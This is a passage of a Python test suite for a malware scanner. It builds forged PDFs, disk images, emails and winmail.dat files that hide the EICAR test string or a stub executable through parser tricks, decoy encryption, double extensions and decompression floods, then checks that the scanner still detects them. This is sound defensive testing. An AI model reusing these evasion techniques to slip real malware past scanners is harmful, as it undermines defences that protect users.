        r, = inspect(write("decoy.pdf", locked + b"\n% /Encrypt " + decoy + b"\n"))
        check(f"a PDF with a password, and with a decoy: {name}", "password-protected" in reasons(r), r)


PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")  # ISO 32000-1 7.6.3.3


def rc4(key, data):
    s, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 255
        s[i], s[j] = s[j], s[i]
    i = j = 0
    for c in data:
        i = (i + 1) & 255
        j = (j + s[i]) & 255
        s[i], s[j] = s[j], s[i]
        out.append(c ^ s[(s[i] + s[j]) & 255])
    return bytes(out)


def encryption(number, owner, more=b""):
    """A dictionary that an empty password opens (versions 1 and 4, RC4), and its key."""
    o, old = bytes([owner]) * 32, not more
    key = hashlib.md5(PAD + o + struct.pack("<i", -4)).digest()
    if old:
        key = key[:5]
        u = rc4(key, PAD)
    else:
        for _ in range(50):
            key = hashlib.md5(key).digest()
        u = hashlib.md5(PAD).digest()
        for i in range(20):
            u = rc4(bytes(b ^ i for b in key), u)
        u += bytes(16)
    return key, (b"%d 0 obj\n<< /Filter /Standard %s /O <%s> /U <%s> /P -4 %s >>\nendobj\n" %
                 (number, b"/V 1 /R 2" if old else b"/V 4 /R 4 /Length 128", o.hex().encode(), u.hex().encode(), more))


def of_object(key, number):
    return hashlib.md5(key + struct.pack("<I", number)[:3] + bytes(2)).digest()[:min(len(key) + 5, 16)]


def png_rows(data, columns):
    """Each row by another of PNG's five filters (ISO/IEC 15948 9), pixels of a byte."""
    out, before = b"", bytes(columns)
    for n, i in enumerate(range(0, len(data), columns)):
        row, tag = data[i:i + columns].ljust(columns, b" "), n % 5
        coded = bytearray([tag])
        for k, v in enumerate(row):
            left, up, corner = (row[k - 1] if k else 0), before[k], (before[k - 1] if k else 0)
            guess = left + up - corner
            near = min((abs(guess - left), 0, left), (abs(guess - up), 1, up), (abs(guess - corner), 2, corner))[2]
            coded.append((v - (0, left, up, (left + up) // 2, near)[tag]) & 255)
        out, before = out + bytes(coded), row
    return out


def forged():
    """PDF that says of a stream what is so for a reader, and what only seems so."""
    flate, coded = b"/Filter /FlateDecode", zlib.compress(EICAR)
    v4 = b"/CF << /StdCF << /CFM /V2 /Length 16 >> >> "
    key, plain = encryption(9, 1)
    _, other = encryption(10, 2)
    key4, own = encryption(9, 1, v4 + b"/StmF /Identity /StrF /Identity /EFF /StdCF")
    _, with_crypt = encryption(9, 1, v4 + b"/StmF /StdCF /StrF /StdCF")
    text = EICAR.ljust(400, b"-")
    five = EICAR
    for _ in range(5):
        five = five.hex().encode() + b">"
    tiff8 = bytes((text[i] - (text[i - 3] if i % 60 >= 3 else 0)) & 255 for i in range(len(text)))
    nibbles = [n for b in text for n in (b >> 4, b & 15)]
    coded4 = [(n - (nibbles[i - 1] if i % 40 else 0)) & 15 for i, n in enumerate(nibbles)]
    tiff4 = bytes(a << 4 | b for a, b in zip(coded4[::2], coded4[1::2]))
    words = struct.unpack(">200H", text)
    tiff16 = struct.pack(">200H", *((w - (words[i - 1] if i % 10 else 0)) & 0xffff for i, w in enumerate(words)))
    rows, random = zlib.compress(png_rows(text, 40)), os.urandom(9000)
    parms = b" /DecodeParms << /Predictor %d /Columns %d %s>>"
    for name, dictionary, body, more, end in (
            ("seems encrypted", flate, coded, plain + b"% /Encrypt 9 0 R\n", b""),
            ("seems locked", flate, coded, b"% /Encrypt 77 0 R\n", b""),
            ("encrypted, and seems otherwise", flate, rc4(of_object(key, 3), coded), plain + other, b"/Encrypt 9 0 R %/Encrypt 10 0 R\n"),
            ("its dictionary seems another", flate, rc4(of_object(key, 3), coded), plain + b"%" + other.replace(b"10 0", b"9 0", 1).replace(b"\n", b" "),
             b"/Encrypt 9 0 R "),
            ("not encrypted by /Crypt", b"/Filter [/Crypt /FlateDecode]", coded, with_crypt, b"/Encrypt 9 0 R "),
            ("attachments alone are encrypted", flate, rc4(of_object(key4, 3), coded), own, b"/Encrypt 9 0 R "),
            ("five filters", b"/Filter [/AHx /AHx /AHx /AHx /AHx]", five, b"", b""),
            ("a reference", b"/Filter 6 0 R", coded, b"6 0 obj\n/FlateDecode\nendobj\n", b""),
            ("a reference to one", b"/Filter [6 0 R]", coded, b"7 0 obj /Fl endobj\n6 0 obj 7 0 R endobj\n", b""),
            ("a reference to nothing", b"/Filter 6 0 R", coded, b"", b""),
            ("rows of PNG", flate + parms % (15, 40, b""), rows, b"", b""),
            ("by reference", flate + b" /DecodeParms 6 0 R", rows, b"6 0 obj <</Columns 7 0 R /Predictor 12>> endobj 7 0 obj 40 endobj\n", b""),
            ("in an array", b"/DecodeParms [null << /Predictor 10 /Columns 40 >>] /Filter [/AHx /Fl]", rows.hex().encode(), b"", b""),
            ("of TIFF", flate + parms % (2, 20, b"/Colors 3 "), zlib.compress(tiff8), b"", b""),
            ("of TIFF, 4 bits", flate + parms % (2, 40, b"/BitsPerComponent 4 "), zlib.compress(tiff4), b"", b""),
            ("of TIFF, 16 bits", flate + parms % (2, 10, b"/BitsPerComponent 16 "), zlib.compress(tiff16), b"", b""),
            ("seem rows of PNG", flate + b" %" + parms % (12, 40, b"") + b"\n", coded, b"", b""),
            ("seem rows of TIFF", flate + b" %" + parms % (2, 40, b"") + b"\n", coded, b"", b""),
            ("codes that grow late", b"/Filter /LZW /DecodeParms << /EarlyChange 0 >>", lzw(random + EICAR, 0), b"", b"")):
        paper_of = (b"%%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n3 0 obj\n<< /Type /EmbeddedFile %s /Length %d >>\nstream\n%s\n"
                    b"endstream\nendobj\n%strailer\n<< /Root 1 0 R %s>>\n%%%%EOF\n" % (dictionary, len(body), body, more, end))
        r, = inspect(write("forged.pdf", paper_of))
        check(f"a PDF: {name}", "rule" in reasons(r) and r["verdict"] == "malicious", r)
    r, = inspect(write("forged.pdf", paper(b"/AHx " * 17, EICAR)))
    check("filters that are not taken off are told", "damaged" in reasons(r), r)
    many = b"".join(b"%d 0 obj <</Filter [%d 0 R] /DecodeParms %d 0 R>> stream\nx\nendstream endobj\n" % (n, n + 1, n + 2)
                    for n in range(20000))
    r, = inspect(write("forged.pdf", b"%PDF-1.7\n" + many + b"/Encrypt 5 0 R /ID [(a)] " * 20000))
    check("references are looked up once", not reasons(r) & {"cell-time", "cell-killed", "cell-memory"}, {**r, "parts": []})


def disks():
    """What lies in UDF, beside ISO 9660 and alone, with the same hashes; what is damaged ends."""
    if not shutil.which("genisoimage"):
        print("genisoimage is not installed: UDF was not tried")
        return
    os.makedirs("tree/docs/deep")
    os.makedirs("tree/many")
    write("tree/docs/deep/e.com", EICAR)
    write("tree/big.bin", os.urandom(3000000))
    for i in range(300):
        write(f"tree/many/file {i} with a long name.txt", b"x%d" % i * 1000)
    want = {hashlib.sha256(open(os.path.join(d, n), "rb").read()).hexdigest() for d, _, names in os.walk("tree") for n in names}
    subprocess.run(["genisoimage", "-quiet", "-udf", "-J", "-r", "-o", "bridge.iso", "tree"], check=True, stderr=subprocess.DEVNULL)
    disk = bytearray(open("bridge.iso", "rb").read())
    at = first = 16 * 2048
    while disk[at + 1:at + 6] == b"CD001":
        at += 2048
    disk[first:first + 4 * 2048] = disk[at:at + 4 * 2048]  # the descriptors of UDF, without those of ISO 9660
    disk[first + 4 * 2048:at + 4 * 2048] = bytes(at - first)
    r = inspect("bridge.iso", write("only.iso", bytes(disk)))
    check("what they are", [x["identified"] for x in r] == ["iso", "udf"], r[1]["identified"])
    for x in r:
        got = [p["sha256"] for p in x["parts"]]
        check(f"files of a disk: {x['file']}", set(got) == want and len(got) == len(want) * (2 if x is r[0] else 1), len(got))
        check(f"EICAR on a disk: {x['file']}", x["verdict"] == "malicious" and "damaged" not in reasons(x), {**x, "parts": []})
    volumes(disk)
    for n in range(300, len(disk), 500009):
        x, = inspect(write("cut.iso", bytes(disk[:n])))
        check(f"a disk cut at {n}", not reasons(x) & {"cell-killed", "cell-time", "cell-memory"}, {**x, "parts": []})
    for seed in range(40):
        odd, state = bytearray(disk[:1 << 20]), seed
        for _ in range(200):
            state = (state * 1103515245 + 12345) & 0x7fffffff
            odd[256 * 2048 + (state >> 8) % (300 << 10)] ^= 1 << state % 8
        x, = inspect(write("odd.iso", bytes(odd)))
        check(f"a disk with other bits {seed}", not reasons(x) & {"cell-killed", "cell-time", "cell-memory"}, {**x, "parts": []})


def volumes(disk):
    """Descriptors of UDF that nobody believes beside those that all do, and a file that can't be read."""
    def crc(data):
        v = 0
        for b in data:
            v ^= b << 8
            for _ in range(8):
                v = (v << 1 ^ (0x1021 if v & 0x8000 else 0)) & 0xffff
        return v

    def sealed(block):
        block = bytearray(block)
        block[8:10] = struct.pack("<H", crc(block[16:16 + struct.unpack_from("<H", block, 10)[0]]))
        block[4] = (sum(block[:4]) + sum(block[5:16])) & 255
        return bytes(block)
    first = struct.unpack_from("<I", disk, 256 * 2048 + 20)[0] * 2048  # the main sequence (ECMA-167 3/10.2)
    tags = [struct.unpack_from("<H", disk, first + i * 2048)[0] for i in range(16)]
    own, end = (first + tags.index(t) * 2048 for t in (6, 8))
    volume = disk[own:own + 2048]
    sequence, = struct.unpack_from("<I", volume, 16)
    for name, wrong, seal in (("sum", b"\0\0\1\0", False), ("age", struct.pack("<I", sequence - 1), True)):
        decoy = bytearray(volume)
        decoy[252:256] = struct.pack("<I", 77777)  # where the set of files is
        decoy[16:20] = wrong
        made = bytearray(disk)
        made[end + 2048:end + 4096] = made[end:end + 2048]
        made[end:end + 2048] = sealed(decoy) if seal else decoy
        x, = inspect(write("decoy.iso", bytes(made)))
        check(f"a volume that is not believed by its {name}", "e.com" in [p["name"] for p in x["parts"]] and
              ("damaged" in reasons(x)) != seal, {**x, "parts": []})
    spare = bytearray(disk)
    spare[own:own + 2048] = bytes(2048)
    x, = inspect(write("spare.iso", bytes(spare)))
    check("the sequence in reserve", "e.com" in [p["name"] for p in x["parts"]], {**x, "parts": []})
    entry = next(i for i in range(0, len(disk), 2048) if disk[i:i + 2] == b"\5\1" and disk[i + 27] == 5 and
                 struct.unpack_from("<Q", disk, i + 56)[0] == len(EICAR))
    gone = bytearray(disk)
    gone[entry:entry + 2] = bytes(2)
    x, = inspect(write("gone.iso", bytes(gone)))
    check("a file that can't be read is told", "damaged" in reasons(x), {**x, "parts": []})
    folders(disk, first, sealed)


def folders(disk, first, sealed):
    """Names and entries that do not agree on what is a folder, and folders that lie in each other."""
    at = [i for i in range(257 * 2048, len(disk) - 40, 4) if disk[i:i + 2] == b"\1\1" and disk[i + 19]]  # names (ECMA-167 4/14.4)
    for what, of, flag in (("folders that are named as files", 2, 0), ("files that are named as folders", 0, 2)):
        odd = bytearray(disk)
        for i in at:
            if odd[i + 18] == of:
                odd[i + 18] = flag
                odd[i:i + 2048] = sealed(odd[i:i + 2048])
        x, = inspect(write("odd.iso", bytes(odd)))
        check(what, odd != disk and "e.com" in [p["name"] for p in x["parts"]], {**x, "parts": []})
    partition = next(struct.unpack_from("<I", disk, first + i * 2048 + 188)[0] for i in range(16)
                     if disk[first + i * 2048:first + i * 2048 + 2] == b"\5\0") * 2048
    root = next(i for i in range(0, len(disk), 2048) if disk[i:i + 2] == b"\5\1" and disk[i + 27] == 4)

    def entry(extents):
        e = bytearray(disk[root:root + 2048])
        e[34] &= 0xf8  # short extents
        struct.pack_into("<Q", e, 56, sum(n for n, _ in extents))
        struct.pack_into("<II", e, 168, 0, 8 * len(extents))
        for i, pair in enumerate(extents):
            struct.pack_into("<II", e, 176 + 8 * i, *pair)
        return sealed(e)

    def name(flag, block):
        return struct.pack("<H16xBB", 257, flag, 0) + struct.pack("<II", 2048, block) + bytes(12)
    for what, flag in (("lead to one of them", 2), ("are deleted", 6)):
        n, made = 4000, bytearray(disk) + bytes(-len(disk) % 2048)
        begin = (len(made) - partition) // 2048
        rows, same = b"".join(name(2, begin + i) for i in range(n)), name(flag, begin + n - 1) * 1638
        rows += bytes(-len(rows) % 2048)
        made += entry([(len(same), begin + n + len(rows) // 2048)] * 230) * n + rows + same + bytes(-len(same) % 2048)
        made[root:root + 2048] = entry([(40 * n, begin + n)])
        x, = inspect(write("same.iso", bytes(made)))
        check(f"folders of the same names that {what}", reasons(x) & {"contains-itself", "bomb", "too-large"} and
              not reasons(x) & {"cell-killed", "cell-time", "cell-memory"}, {**x, "parts": []})


def heads():
    """Of a file above file.bytes the head is looked at, and lists know all of it."""
    tail = os.urandom(200000)
    write("hospital/limits.yml", b"limits:\n  file.bytes: 65536\n")
    paths = write("front.txt", EICAR + b"\n" + bytes(70000)), write("behind.txt", bytes(70000) + EICAR), write("tail.bin", tail)
    os.makedirs("hospital/inspect", exist_ok=True)
    write("hospital/inspect/block.txt", hashlib.md5(tail).hexdigest().encode() + b" known\n")
    p = run(paths, "--json", "--hospital", "hospital")
    front, behind, known = (json.loads(x) for x in p.stdout.splitlines())
    check("the head is looked at", {"rule", "head-only"} <= reasons(front) and front["verdict"] == "malicious", front)
    check("what is behind it is said not to be", reasons(behind) == {"head-only"} and behind["verdict"] == "notice", behind)
    check("lists know the whole", "blocked" in reasons(known) and known["size"] == len(tail) and
          known["sha256"] == hashlib.sha256(tail).hexdigest(), known)
    check("it is no failure", p.returncode == 1 and not p.stderr, {"stderr": p.stderr})
    os.unlink("hospital/limits.yml")
    os.unlink("hospital/inspect/block.txt")


def mails():
    """Mails in mails, in archives, in mailboxes, and what Outlook makes of attachments."""
    def attribute(level, number, data):
        return bytes([level]) + struct.pack("<II", number, len(data)) + data + struct.pack("<H", sum(data) & 0xffff)
    body = base64.encodebytes(EICAR)
    fields = b"Content-Type: application/octet-stream; name=e.com\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    known = b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n" + fields + body
    odd = b"X-Odd: 1\r\n" + fields + body  # of no field that mails are known by
    # letters behind '=' that ends four, as mails have that were put together (RFC 2045 6.8)
    joined = b"From: a@b.example\r\nMIME-Version: 1.0\r\n" + fields + base64.b64encode(EICAR[:16]) + b"\r\n" + \
        base64.b64encode(EICAR[16:]) + b"\r\n"

    def within(mail, more=b""):
        return (b"From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                b"Content-Type: message/rfc822\r\n" + more + b"\r\n" + mail + b"\r\n--b--\r\n")
    line = b"From a@b.example Sun Nov  1 00:00:00 2026\r\n"
    tnef = struct.pack("<IH", 0x223e9f78, 1) + attribute(1, 0x89006, struct.pack("<I", 0x10000)) + \
        attribute(2, 0x69002, bytes(14)) + attribute(2, 0x18010, b"e.com\0") + attribute(2, 0x6800f, EICAR)
    found = inspect(
        write("in.eml", within(known)), write("odd.eml", within(odd)), write("two.eml", within(within(odd))),
        write("coded.eml", within(base64.encodebytes(known), b"Content-Transfer-Encoding: base64\r\n")),
        write("joined.eml", joined), write("mails.zip", zipped([("a.eml", odd)])),
        write("only.eml", b"From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + odd),
        write("all.mbox", line + b"From: a@b.example\r\nDate: x\r\n\r\nhello\r\n\r\n" + line + odd),
        write("from.eml", line + within(b"From: a@b.example\r\n" + fields + body[:40] + b"\nFrom x\r\n" + body[40:])),
        write("winmail.dat", tnef), write("winmail.eml", within(known).replace(b"message/rfc822\r\n", b"application/ms-tnef\r\n"
              b"Content-Transfer-Encoding: base64\r\n").replace(known, base64.encodebytes(tnef))))
    for r in found:
        parts = [p["name"] for p in r["parts"]]
        check(f"EICAR by mail: {r['file']}", r["verdict"] == "malicious" or r["file"] == "from.eml", r)
        check(f"its name: {r['file']}", "e.com" in parts, parts)
    r = inspect(write("cut.dat", tnef[:-2]))[0]
    check("what is cut off is looked at", {"damaged", "rule"} <= reasons(r), r)
    start, exe = struct.pack("<IH", 0x223e9f78, 1), windows_program()
    r = inspect(write("cut.dat", start + attribute(2, 0x6800f, exe)[:-2]))[0]
    check("what is cut off is known", "pe" in [p["identified"] for p in r["parts"]], r)

    def value(kind, number, data, front=b""):
        return struct.pack("<HHII", kind, number, 1, len(front + data)) + front + data + bytes(-len(front + data) % 4)
    small = struct.pack("<HHI", 3, 0x0e07, 1) + struct.pack("<HHHH", 0x1002, 0x8001, 0, 0)[:4] + bytes(16) + \
        struct.pack("<IIII", 1, 4, 0x61006200, 2) + bytes(8)  # a number, and a row of two with a name
    message = start + attribute(2, 0x18010, b"e.com\0") + attribute(2, 0x6800f, EICAR)
    interface = bytes.fromhex("0703020000000000c000000000000046")
    for name, properties, part in (
            ("a message", struct.pack("<I", 3) + small + value(0xd, 0x3701, message, interface), "tnef"),
            ("bytes", struct.pack("<I", 3) + small + value(0x102, 0x3701, exe), "pe"),
            ("a message behind damage", struct.pack("<IHH", 9, 0x77, 1) + bytes(6) + message, "tnef"),
            ("a message that is cut off", struct.pack("<I", 1) + value(0xd, 0x3701, message, interface)[:-4], "tnef")):
        r = inspect(write("win.dat", start + attribute(2, 0x69005, properties)))[0]
        check(f"properties with {name}", part in [p["identified"] for p in r["parts"]] and
              ("damaged" in reasons(r)) == ("cut" in name or "damage" in name), r)
        check(f"what is in {name}", part != "tnef" or "e.com" in [p["name"] for p in r["parts"]], r)
    called(attribute, value, exe)


def called(attribute, value, exe):
    """What an attachment of winmail.dat is called, wherever its attributes say it."""
    begin, data, note = attribute(2, 0x69002, bytes(14)), attribute(2, 0x6800f, exe), attribute(2, 0x6800f, b"Good morning. " * 9)

    def title(name):
        return attribute(2, 0x18010, name + b"\0")

    def properties(*values):
        return attribute(2, 0x69005, struct.pack("<I", len(values)) + b"".join(values))
    name = b"invoice.pdf.exe"
    wide = value(0x1f, 0x3707, name.decode().encode("utf-16-le") + bytes(2))
    long, shown = value(0x1e, 0x3707, name + b"\0"), value(0x1e, 0x3001, name + b"\0")
    other = begin + note + title(b"note.txt")
    for what, made in (
            ("before it", begin + title(name) + data), ("behind it", begin + data + title(name)),
            ("behind it, and another", begin + data + title(name) + other), ("behind another", other + begin + data + title(name)),
            ("in properties", begin + title(b"INVOIC~1.EXE") + data + properties(long)),
            ("in wide properties", begin + data + properties(wide)),
            ("as it is shown", begin + data + properties(shown)),
            ("beside its bytes", begin + properties(value(0x102, 0x3701, exe), long))):
        r, = inspect(write("called.dat", struct.pack("<IH", 0x223e9f78, 1) + made))
        got = {p["name"]: p["identified"] for p in r["parts"]}
        check(f"a name {what}", got.get(name.decode()) == "pe" and "name-double-ending" in reasons(r) and "damaged" not in reasons(r), r)
        check(f"another's name {what}", "another" not in what or got.get("note.txt") == "text", r)
    for what, made in (("titles", begin + title(name) + data + title(b"note.txt")),
                       ("a title and a long name", begin + title(b"note.txt") + data + properties(long))):
        r, = inspect(write("called.dat", struct.pack("<IH", 0x223e9f78, 1) + made))
        check(f"{what} that differ are told", "damaged" in reasons(r), r)


def hidden_streams():
    """Streams of PDF that readers find, and what their dictionaries only seem to say."""
    flate, packed, runs = b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(EICAR * 40), EICAR.hex().encode() + b">"
    acts = zlib.compress(b"9 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")
    objects = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    stored = b"\nendstream\n"
    ended = (b"\x78\x9c\0" + struct.pack("<HH", len(stored), len(stored) ^ 0xffff) + stored + zlib.compress(EICAR)[2:-4] +
             struct.pack(">I", zlib.adler32(stored + EICAR)))
    late = lzw(os.urandom(9000) + EICAR)

    def of(dictionary, data, begin=b"\n", before=b"", length=None):
        return (b"%%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%s3 0 obj\n<< %s /Length %s >>\nstream%s%s\nendstream\nendobj\n"
                b"trailer << /Root 1 0 R >>\n%%%%EOF\n" % (before, dictionary, length or b"%d" % len(data), begin, data))

    for name, paper_of in (
            ("a filter in a comment", of(b"% /Filter /ASCIIHexDecode\n" + flate, packed)),
            ("a filter in a dictionary within", of(b"/X << /Filter /AHx >> " + flate, packed)),
            ("a filter in a text", of(b"/X (/Filter /AHx) " + flate, packed)),
            ("a filter that is a value", of(b"/X /Filter " + flate + b" /Y [/Filter /AHx]", packed)),
            ("two filters", of(b"/Filter /A85 " + flate, packed)),
            ("the first of two filters", of(flate + b" /Filter /A85", packed)),
            ("parameters in a comment", of(b"/Filter /LZW % /DP << /EarlyChange 0 >>\n", late)),
            ("an image in a comment", of(flate + b" % /Image\n", packed)),
            ("an object's begin in a text, with a number", of(b"/Type /EmbeddedFile /Filter [/AHx /Fl] /X (5 0 obj)", packed.hex().encode() + b">")),
            ("an object in a comment", of(b"/Type /EmbeddedFile /Filter [/AHx /Fl] % 5 0 obj <<\n", packed.hex().encode() + b">")),
            ("objects in a text and a comment", of(b"/Filter [/AHx /Fl] /X (2 0 obj << >> endobj) % 5 0 obj << /Y 1\n", packed.hex().encode() + b">")),
            ("a long dictionary", of(b"/Filter [/AHx /Fl] /X (%s)" % (b"long " * 12000), packed.hex().encode() + b">")),
            ("a dictionary with many blanks", of(b"/Filter [/AHx /Fl]" + b" " * 200000, packed.hex().encode() + b">")),
            ("an object's begin in a text", of(b"/Type /EmbeddedFile /Filter [/AHx /Fl] /X (obj)", packed.hex().encode() + b">")),
            ("an image", of(b"/Subtype /Image /Filter /FlateDecode", zlib.compress(b"REM x\r\n" + EICAR))),
            ("objects in a comment", of(b"/Filter /FlateDecode % /ObjStm\n", zlib.compress(zipped([("e.com", EICAR)])))),
            ("CR alone", of(flate, packed, b"\r")), ("blanks, and a line's end", of(flate, packed, b" \t \r\n")),
            ("words up to the line's end", of(b"/Filter /AHx", runs, b" 41 words\n")),
            ("no line's end", of(b"/Filter [/AHx /Fl]", packed.hex().encode() + b">", b" ")),
            ("its end's word", of(flate, ended)),
            ("its end's word, its length elsewhere", of(flate, ended, length=b"4 0 R", before=b"4 0 obj %d endobj\n" % len(ended))),
            ("begins in a comment", of(b"/Filter /AHx", runs, before=b"%stream\n")),
            ("begins in a comment, behind a dictionary", of(b"/Filter /AHx", runs, before=b"%>>stream\n"))):
        r, = inspect(write("stream.pdf", paper_of))
        check(f"a PDF's stream: {name}", "rule" in reasons(r) and r["verdict"] == "malicious", r)
    for name, paper_of in (("CR alone", of(objects, acts, b"\r")), ("an image in a comment", of(objects + b" % /Image\n", acts)),
                           ("a file in a comment", of(objects + b" % /EmbeddedFile\n", acts)),
                           ("an object's begin in a text", of(objects + b" /X (obj)", acts)),
                           ("an object in a text", of(objects + b" /X (5 0 obj <<)", acts)),
                           ("an object in a comment", of(objects + b" % 5 0 obj <<\n", acts)),
                           ("many blanks", of(objects + b" " * 17000, acts))):
        r, = inspect(write("stream.pdf", paper_of))
        check(f"a PDF's objects: {name}", {"pdf-script", "pdf-acts-when-opened"} <= reasons(r), r)
    for tag in (5, 255):  # a predictor of PNG that is none: some readers take the row as it is, behind it
        r, = inspect(write("stream.pdf", of(b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 9000 >>",
                                            zlib.compress(bytes([tag]) + windows_program()))))
        check(f"a row with the predictor {tag}", "document-carries-program" in reasons(r), r)
    random = zlib.compress(os.urandom(9000))
    for name, data, cut in (("whole", random, False), ("empty", b"", False), ("without a checksum", random[:-4], False),
                            ("with a wrong checksum", random[:-4] + b"abcd", False), ("cut off", random[:5000], True)):
        r, = inspect(write("stream.pdf", of(b"/Filter /FlateDecode", data)))
        check(f"a PDF's stream {name}", reasons(r) == ({"damaged"} if cut else set()), r)
    for name, flood in (
            ("begins", b">>stream" * 400000), ("begins and names", b">>stream/JS " * 300000 + b" obj endstream"),
            ("objects", b">>stream/JS obj endstream " * 100000),
            ("lengths", b"1 0 obj <</Length 3000000>>stream\nendstream " * 60000),
            ("references to a text without an end", b"9 0 obj << " + b"/F 1 0 R " * 1000 + b">>" + b"stream\nx\nendstream\n>>" * 40 +
             b"1 0 obj (" + b"a" * 4000000),
            ("parameters by reference", b"9 0 obj << " + b"/DP 1 0 R " * 1000 + b">>" + b"stream\nx\nendstream\n>>" * 2000 +
             b"1 0 obj << " + b"/Columns 1 " * 400000),
            ("objects in a dictionary", b"9 0 obj << /X (" + b"1 0 obj<<" * 100000 + b") >>" + b"stream\nx\nendstream " * 2000),
            ("filters", b"1 0 obj << " + b"/Filter /Fl " * 1200 + b">>" + b"stream\nx endstream " * 100000)):
        r, = inspect(write("stream.pdf", b"%PDF-1.7\n" + flood))
        check(f"a flood of {name}", reasons(r) & {"damaged", "too-many"} and
              not reasons(r) & {"cell-time", "cell-killed", "cell-memory"}, {**r, "parts": []})


def hidden():
    """What is written so that others read it and Ward would not."""
    exe = windows_program()
    body = base64.encodebytes(exe)
    act = b"1 0 obj\n<< /OpenAction << /S /JavaScript /JS (a) >> >>\nendobj\n"
    # the word that begins a stream, in a comment; one that is no line's end; one that hides an object
    in_line, in_text = act.replace(b"0 obj", b"0\nobj"), act.replace(b"<< ", b"<< /X (>>stream\n) ", 1)
    for n, before in enumerate((b"%stream x\n" + act, b"<< /Title (Upstream news) >>\n" + act, b"%>>stream\n" + act,
                                b"%>>stream\n" + in_line, b">>stream\n" + act.replace(b"0 obj", b"0 %x\robj"), in_text)):
        r = inspect(write(f"hidden{n}.pdf", b"%PDF-1.7\n" + before + b"%endstream\n%%EOF\n"))[0]
        check(f"a script behind {before!r}", {"pdf-script", "pdf-acts-when-opened"} <= reasons(r), r)
    r = inspect(write("noise.pdf", pdf([(b"/Filter /FlateDecode", zlib.compress(b"/AA /JS /JavaScripts /Launcher", 0)), b"<< >>"])))[0]
    check("short names in a stream are none", r["verdict"] == "clean" and not reasons(r), r)
    hidden_streams()
    r = inspect(write("search.pdf", b"%PDF-1.7\n" + b"<<>>stream\n/" * 300000))[0]
    check("streams without an end are looked for once", "cell-time" not in reasons(r), r)
    # a line that only begins like the boundary; a part ends before the boundary's line
    page = b"<html><script>x()</script></html>"
    head = b'From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="abc"\r\n\r\n'
    text = head + b"--abc\r\nContent-Type: text/plain\r\n\r\nhello\r\n--abc--x\r\n"
    r = inspect(write("line.eml", text + b"--abc\r\nContent-Type: application/octet-stream; name=a.exe\r\n"
                      b"Content-Transfer-Encoding: base64\r\n\r\n" + body + b"\r\n--abc--\r\n"))[0]
    check("a program behind a line like the boundary", "mail-carries-program" in reasons(r), r)
    r = inspect(write("hash.eml", head + b"--abc\r\nContent-Type: text/html; name=p.html\r\n\r\n" + page +
                      b"\r\n--abc--\r\n"))[0]
    check("a part's own hash", hashlib.sha256(page).hexdigest() in [x["sha256"] for x in r["parts"]], r)
    # groups within an object's hex
    ole = compound([("x", bytes(5000))])
    hexes = (b"0105000002000000" + ole.hex().encode())
    r = inspect(write("group.rtf", b"{\\rtf1{\\object{\\*\\objdata " + hexes[:8] + b"{\\*\\x}" + hexes[8:] + b"}}}"))[0]
    check("an object with a group in it", [x for x in r["parts"] if x["identified"] == "ole"], r)
    # many of one reason, then another
    flood = [(f"{i:04}.png", b"%PDF-1.4\n" + str(i).encode()) for i in range(1100)]
    r = inspect(write("flood.zip", zipped(flood + [("e.com", EICAR)])))[0]
    check("a flood hides nothing", r["verdict"] == "malicious", {**r, "parts": []})
    # what a cell knew before it was ended is said
    write("hospital/limits.yml", SHORT)
    r = json.loads(run([write("first.zip", zipped([("e.com", EICAR), ("s.zip", open("slower.zip", "rb").read())], zipfile.ZIP_STORED))], "--json",
                       "--hospital", "hospital").stdout)
    os.unlink("hospital/limits.yml")
    check("a cell that is ended has said what it knew", {"cell-time", "rule"} <= reasons(r) and
          r["verdict"] == "malicious", {**r, "parts": []})


def sound():
    """A bounded sample of what Debian installs: nothing of it is suspicious."""
    found = []
    for top in ("/usr/bin", "/usr/lib/x86_64-linux-gnu", "/usr/share/doc", "/usr/share/fonts", "/usr/share/icons",
                "/usr/share/perl5", "/usr/lib/python3", "/usr/share/man/man1"):
        here = []
        for folder, _, names_here in os.walk(top):
            here += [os.path.join(folder, n) for n in names_here]
        here = sorted(p for p in here if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) < 1 << 20)
        found += here[::max(1, len(here) // 40)][:40]
    bad = [r for r in inspect(*found) if r["verdict"] in ("suspicious", "malicious")]
    check("sound files are not suspicious", not bad, [(r["file"], r["reasons"]) for r in bad])
    print(f"{len(found)} files of the system: {len(bad)} suspicious")


def deep(levels):
    """Each level is hashed and searched: levels × 24 MiB."""
    data = os.urandom(24 << 20)
    for i in range(levels):
        data = zipped([(f"{i}.zip", data)], zipfile.ZIP_STORED)
    return data


def wide(parts):
    """Each part is hashed and searched: parts × 24 MiB, in little memory. They are the same but for their names, so one is packed."""
    one = zipped([("000.bin", bytes(24 << 20))])
    row, end = one.index(b"PK\1\2"), one.index(b"PK\5\6")
    files, rows = bytearray(), bytearray()
    for name in (b"%03d.bin" % i for i in range(parts)):
        rows += one[row:row + 42] + struct.pack("<I", len(files)) + name
        files += one[:row].replace(b"000.bin", name, 1)
    return bytes(files + rows + one[end:end + 8] + struct.pack("<HHII", parts, parts, len(rows), len(files)) + bytes(2))


SHORT = b"limits:\n  file.seconds: 1\n  file.ratio: 100000\n  file.unpacked: 17179869184\n"


def cells():
    """A cell that takes too long, or is killed while it looks, is a finding; the next file is looked at."""
    write("slow.zip", deep(12))
    write("slower.zip", wide(300))
    shutil.rmtree("hospital/inspect", ignore_errors=True)
    write("hospital/limits.yml", SHORT)
    r = run(["slower.zip", "e.com"], "--json", "--hospital", "hospital")
    reports = [json.loads(x) for x in r.stdout.splitlines()]
    check("a cell that takes too long", "cell-time" in reasons(reports[0]), reports[0])
